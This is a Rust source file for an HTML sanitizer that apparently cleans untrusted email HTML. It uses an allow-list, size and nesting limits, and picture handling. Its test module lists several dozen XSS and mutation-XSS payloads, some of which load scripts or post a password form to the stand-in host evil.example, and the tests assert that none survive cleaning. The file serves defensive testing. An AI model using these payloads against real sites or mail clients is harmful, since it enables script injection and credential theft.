//! HTML of strangers, made harmless.
//!
//! An allow-list: what isn't named here is not in the result. Nothing in the result runs, is submitted, or is fetched
//! from anywhere; the frame that shows it forbids the same once more. Styles are taken out of attributes as far as
//! they can fetch something or leave their place, and style sheets are dropped whole.

mod allowed;

use allowed::{ATTRIBUTES, STYLES, TAGS};
use ammonia::{Builder, UrlRelative};
use encodify::base64;
use std::{
    borrow::Cow,
    collections::{HashMap, HashSet},
    sync::{
        Arc, Mutex, PoisonError,
        atomic::{AtomicBool, AtomicUsize, Ordering},
    },
};

/// HTML that is cleaned, in bytes.
const MAX_HTML: usize = 1024 * 1024;
/// Elements that may be open at once; more make parsing slow.
const MAX_NESTING: usize = 400;
/// Tags and character references, which take a parser hundreds of times as long as text.
const MAX_MARKUP: usize = 100_000;
/// Pictures from elsewhere that a mail may show.
const MAX_REMOTE: usize = 60;
/// All pictures of a mail together, in bytes of HTML: one that is shown often counts as often.
const MAX_PICTURES: usize = 24 * 1024 * 1024;

/// Cleaned HTML.
#[derive(Debug, Eq, PartialEq)]
pub(super) struct Clean {
    pub html: String,
    /// Whether something was taken out that would be fetched from elsewhere.
    pub remote_content: bool,
    /// The addresses of the pictures among it, each once.
    pub missing: Vec<String>,
}

/// Pictures as data URLs.
#[derive(Debug, Default)]
pub(super) struct Pictures {
    /// The mail's own, by their content id.
    pub own: HashMap<String, String>,
    /// Those that were fetched from elsewhere, by their address.
    pub fetched: HashMap<String, String>,
}

/// What was found while cleaning.
#[derive(Default)]
struct Found {
    remote: AtomicBool,
    missing: Mutex<Vec<String>>,
    pictures: AtomicUsize,
}

/// Cleans HTML.
///
/// Nothing if it is too large or too deep to be cleaned in reasonable time.
pub(super) fn clean(html: &str, pictures: Pictures) -> Option<Clean> {
    if !is_reasonable(html) {
        return None;
    }
    let found = Arc::new(Found { remote: mentions_remote_style(html).into(), ..Found::default() });
    let seen = Arc::clone(&found);
    let cleaned = Builder::empty()
        .tags(TAGS.iter().copied().collect())
        .clean_content_tags(["script", "style", "title", "noscript", "template"].into())
        .generic_attributes(ATTRIBUTES.iter().copied().collect())
        .tag_attributes([("a", HashSet::from(["href"])), ("img", HashSet::from(["src"]))].into())
        .filter_style_properties(STYLES.iter().copied().collect())
        .url_schemes(["http", "https", "mailto", "data", "cid"].into())
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer"))
        .set_tag_attribute_value("a", "target", "_blank")
        .attribute_filter(move |tag, name, value| filter(tag, name, value, &pictures, &seen))
        .clean(html)
        .to_string();
    let missing = std::mem::take(&mut *found.missing.lock().unwrap_or_else(PoisonError::into_inner));
    Some(Clean { html: cleaned, remote_content: found.remote.load(Ordering::Relaxed), missing })
}

/// Whether HTML is small and flat enough to be parsed in reasonable time.
pub(super) fn is_reasonable(html: &str) -> bool {
    let markup = || html.bytes().filter(|byte| matches!(byte, b'<' | b'&')).count();
    html.len() <= MAX_HTML && markup() <= MAX_MARKUP && nesting(html) <= MAX_NESTING
}

fn filter<'v>(
    tag: &str,
    name: &str,
    value: &'v str,
    pictures: &Pictures,
    found: &Found,
) -> Option<Cow<'v, str>> {
    match (tag, name) {
        ("img", "src") => picture(value, pictures, found),
        ("a", "href") => is_link(value).then_some(value.into()),
        (_, "style") => {
            let sound = is_sound_style(value);
            found.remote.fetch_or(!sound && value.to_ascii_lowercase().contains("url"), Ordering::Relaxed);
            sound.then_some(value.into())
        }
        _ => Some(value.into()),
    }
}

/// The source of a picture: one in the mail itself, one that was fetched, or nothing.
fn picture<'v>(value: &str, pictures: &Pictures, found: &Found) -> Option<Cow<'v, str>> {
    let value = value.trim();
    if let Some(id) = strip_scheme(value, "cid:") {
        return pictures.own.get(id).and_then(|url| found.show(url));
    }
    if is_inline_picture(value) {
        return Some(value.to_owned().into());
    }
    let fetched = pictures.fetched.get(value).and_then(|url| found.show(url));
    if fetched.is_none() {
        found.remote.store(true, Ordering::Relaxed);
        found.miss(value);
    }
    fetched
}

impl Found {
    /// The picture, while there is room.
    fn show<'v>(&self, url: &str) -> Option<Cow<'v, str>> {
        let before = self.pictures.fetch_add(url.len(), Ordering::Relaxed);
        (before.saturating_add(url.len()) <= MAX_PICTURES).then(|| url.to_owned().into())
    }

    fn miss(&self, address: &str) {
        let elsewhere = ["http://", "https://"].iter().any(|scheme| strip_scheme(address, scheme).is_some());
        let mut missing = self.missing.lock().unwrap_or_else(PoisonError::into_inner);
        if elsewhere && missing.len() < MAX_REMOTE && !missing.iter().any(|known| known == address) {
            missing.push(address.to_owned());
        }
    }
}

/// A picture as part of HTML. Nothing if browsers may do more with its kind than draw it.
pub(super) fn data_url(media_type: &str, bytes: &[u8]) -> Option<String> {
    is_picture(media_type).then(|| format!("data:{media_type};base64,{}", base64::STANDARD.encode(bytes)))
}

/// Whether browsers draw pictures of this media type without running anything: no SVG.
pub(super) fn is_picture(media_type: &str) -> bool {
    let kind = strip_scheme(media_type, "image/").map(str::to_ascii_lowercase);
    kind.is_some_and(|kind| ["png", "jpeg", "gif", "webp", "avif", "bmp"].contains(&kind.as_str()))
}

fn is_inline_picture(value: &str) -> bool {
    let data = strip_scheme(value, "data:").and_then(|rest| rest.split_once(";base64,"));
    data.is_some_and(|(kind, data)| {
        let encoded = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=');
        is_picture(kind) && data.bytes().all(encoded)
    })
}

/// Whether it leads to a page or an address.
pub(super) fn is_link(value: &str) -> bool {
    ["http://", "https://", "mailto:"].iter().any(|scheme| strip_scheme(value.trim(), scheme).is_some())
}

fn strip_scheme<'v>(value: &'v str, scheme: &str) -> Option<&'v str> {
    let (start, rest) = value.split_at_checked(scheme.len())?;
    start.eq_ignore_ascii_case(scheme).then_some(rest)
}

/// Whether a style fetches nothing and hides nothing in escapes. Checked after ammonia took out unknown properties.
fn is_sound_style(value: &str) -> bool {
    let lower = value.to_ascii_lowercase();
    let bad = ["url", "\\", "/*", "expression", "image", "src", "@", "<", "var(", "attr(", "env("];
    !bad.iter().any(|bad| lower.contains(bad))
}

/// Whether style sheets or old attributes fetch something. They are dropped; this is for the notice alone.
fn mentions_remote_style(html: &str) -> bool {
    let lower = html.to_ascii_lowercase();
    ["url(http", "url('http", "url(\"http", "url(//", "@import", "background=\"http", "<link"]
        .iter()
        .any(|sign| lower.contains(sign))
}

/// How many elements are open at once, at most, judged roughly: end tags and void elements that are left out count.
fn nesting(html: &str) -> usize {
    let mut deepest = 0_usize;
    let mut open = 0_usize;
    for tag in html.split('<').skip(1) {
        if tag.starts_with('/') {
            open = open.saturating_sub(1);
        } else if tag.starts_with(|c: char| c.is_ascii_alphabetic()) && !is_void(tag) {
            open += 1;
            deepest = deepest.max(open);
        }
    }
    deepest
}

fn is_void(tag: &str) -> bool {
    let name: String = tag.chars().take_while(char::is_ascii_alphanumeric).collect();
    let void = [
        "area", "base", "br", "col", "hr", "img", "input", "link", "meta", "p", "li", "td", "tr", "th", "wbr",
    ];
    void.contains(&name.to_ascii_lowercase().as_str())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cleaned(html: &str) -> Clean {
        let own = HashMap::from([("logo@1".to_owned(), "data:image/png;base64,AAAA".to_owned())]);
        clean(html, Pictures { own, ..Pictures::default() }).unwrap()
    }

    fn clean_without_rest(html: &str) -> Clean {
        Clean { html: html.into(), remote_content: false, missing: Vec::new() }
    }

    /// Payloads of the kinds that public collections have (PortSwigger's and OWASP's cheat sheets, DOMPurify's and
    /// Roundcube's past holes).
    const HOSTILE: &[&str] = &[
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<body onload=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"></use></svg>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=\"data:text/html,<script>alert(1)</script>\">",
        "<embed src=\"//evil.example/x.swf\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=prefetch href=//evil.example>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<base href=\"//evil.example/\"><a href=\"x\">x</a>",
        "<form action=//evil.example><input name=password><button>Go</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" &#1; java\nscript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"//evil.example\" ping=\"//evil.example\">x</a>",
        "<div style=\"background:url(//evil.example/x)\">x</div>",
        "<div style=\"background-image:url('https://evil.example/x')\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"color:r\\65 d;background-color:\\75rl(//evil.example)\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
        "<style>@import '//evil.example/x.css'; body{background:url(//evil.example)}</style>",
        "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<table background=\"//evil.example/x\"><td background=\"//evil.example/y\">x</table>",
        "<video src=//evil.example/x poster=//evil.example/y><source src=//evil.example/z></video>",
        "<audio src=//evil.example/x autoplay onplay=alert(1)>",
        "<picture><source srcset=//evil.example/x></picture>",
        "<img srcset=\"//evil.example/x 2x\">",
        "<img src=\"//evil.example/x\">",
        "<img src=\"https://evil.example/x\" lowsrc=//evil.example>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<input type=image src=//evil.example/x>",
        "<details open ontoggle=alert(1)>x</details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<xss id=x onfocus=alert(1) tabindex=1>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "<p id=\"__proto__\" name=\"constructor\" class=\"x\">x</p>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    ];

    #[test]
    fn nothing_hostile_survives_twice_cleaning_either() {
        for payload in HOSTILE {
            let once = cleaned(payload).html;
            let forbidden = [
                "<script",
                "<svg",
                "<math",
                "<iframe",
                "<object",
                "<embed",
                "<link",
                "<meta",
                "<base",
                "<form",
                "<input",
                "<style",
                "<video",
                "<audio",
                "<source",
                "<template",
                "<button",
                "<textarea",
                "javascript:",
                "vbscript:",
                "evil.example",
                " on",
                "url(",
                "expression",
                "position",
                " id=",
                " class=",
                "svg+xml",
            ];
            for bad in forbidden {
                assert!(!outside_text(&once).contains(bad), "{payload}\n{once}");
            }
            assert_eq!(
                without_link_attributes(&cleaned(&once).html),
                without_link_attributes(&once),
                "{payload}"
            );
        }
    }

    /// They come in any order.
    fn without_link_attributes(html: &str) -> String {
        html.replace(" target=\"_blank\"", "").replace(" rel=\"noopener noreferrer\"", "")
    }

    /// The markup alone: text may say anything.
    fn outside_text(html: &str) -> String {
        let tags =
            html.split('<').skip(1).filter_map(|tag| tag.split_once('>')).map(|(tag, _)| format!("<{tag}>"));
        tags.collect::<String>().to_ascii_lowercase()
    }

    #[test]
    fn ordinary_mail_keeps_its_looks() {
        let html = "<p style=\"color: red; position: absolute; margin-top: 4px\">Hi <b>Bob</b></p>\
                    <table bgcolor=\"#eeeeee\" width=\"600\"><tbody><tr><td align=\"left\">x</td></tr></tbody></table>";
        let wanted = "<p style=\"color:red;margin-top:4px\">Hi <b>Bob</b></p>\
                      <table bgcolor=\"#eeeeee\" width=\"600\"><tbody><tr><td align=\"left\">x</td></tr></tbody></table>";
        assert_eq!(cleaned(html), clean_without_rest(wanted));
    }

    #[test]
    fn links_open_elsewhere_and_say_nothing_of_where_they_were() {
        let html = "<a href=\"https://example.org/?a=1&amp;b\" target=\"_self\">x</a>";
        let wanted =
            "<a href=\"https://example.org/?a=1&amp;b\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>";
        assert_eq!(cleaned(html).html, wanted);
        assert!(cleaned("<a href=\"MAILTO:bob@example.org\">x</a>").html.contains("href="));
        assert!(!cleaned("<a href=\"ftp://example.org\">x</a>").html.contains("href="));
        assert!(!cleaned("<a href=\"/settings\">x</a>").html.contains("href="));
    }

    #[test]
    fn pictures_come_from_the_mail_or_not_at_all() {
        let own = cleaned("<img src=\"cid:logo@1\" alt=\"Logo\">");
        assert_eq!(own, clean_without_rest("<img src=\"data:image/png;base64,AAAA\" alt=\"Logo\">"));
        assert_eq!(cleaned("<img src=\"cid:other\">"), clean_without_rest("<img>"));
        assert_eq!(
            cleaned("<img src=\"https://example.org/1.png\">"),
            Clean {
                html: "<img>".into(),
                remote_content: true,
                missing: vec!["https://example.org/1.png".into()]
            }
        );
        assert!(cleaned("<div style=\"background:url(https://example.org)\">x</div>").remote_content);
        assert!(cleaned("<img src=\"data:image/gif;base64,R0lGOD==\">").html.contains("data:image/gif"));
    }

    #[test]
    fn what_would_take_too_long_is_refused() {
        assert_eq!(clean(&"<div>".repeat(100_000), Pictures::default()), None);
        assert_eq!(clean(&"x".repeat(MAX_HTML + 1), Pictures::default()), None);
        assert_eq!(clean(&"&".repeat(MAX_MARKUP + 1), Pictures::default()), None);
        assert!(clean(&"<p>x".repeat(10_000), Pictures::default()).is_some());
        assert!(clean(&"<b>".repeat(MAX_NESTING), Pictures::default()).is_some());
    }

    #[test]
    fn fetched_pictures_come_into_their_places_and_nothing_else_does() {
        let html = "<img src=\"https://a.example/1.png?x=1&amp;y=2\" alt=\"One\"><img src=\" HTTP://b.example/2 \">\
                    <img src=\"//c.example/3\"><img src=\"https://a.example/1.png?x=1&amp;y=2\">\
                    <p style=\"background-image:url(https://d.example/4)\">https://e.example/5</p>";
        let first = cleaned(html);
        assert_eq!(first.missing, ["https://a.example/1.png?x=1&y=2", "HTTP://b.example/2"]);
        let one = data_url("image/png", b"one").unwrap();
        let fetched = HashMap::from([
            (first.missing[0].clone(), one.clone()),
            ("https://e.example/5".to_owned(), one.clone()),
            ("https://d.example/4".to_owned(), one.clone()),
        ]);
        let second = clean(html, Pictures { fetched, ..Pictures::default() }).unwrap();
        let wanted =
            format!("<img src=\"{one}\" alt=\"One\"><img><img><img src=\"{one}\"><p>https://e.example/5</p>");
        assert_eq!((second.html, second.missing), (wanted, vec!["HTTP://b.example/2".to_owned()]));
    }

    #[test]
    fn only_pictures_become_pictures() {
        for kind in ["image/svg+xml", "text/html", "image/png;x", "application/pdf", ""] {
            assert_eq!(data_url(kind, b"x"), None, "{kind}");
        }
        assert_eq!(data_url("image/webp", b"x").as_deref(), Some("data:image/webp;base64,eA=="));
    }

    #[test]
    fn a_picture_that_is_shown_often_does_not_fill_the_memory() {
        let url = data_url("image/png", &vec![0; 2 * 1024 * 1024]).unwrap();
        let fetched = HashMap::from([("https://a.example/1".to_owned(), url)]);
        let html = "<img src=\"https://a.example/1\">".repeat(10_000);
        let cleaned = clean(&html, Pictures { fetched, ..Pictures::default() }).unwrap();
        assert!(cleaned.html.len() < MAX_PICTURES + html.len(), "{}", cleaned.html.len());
    }
}
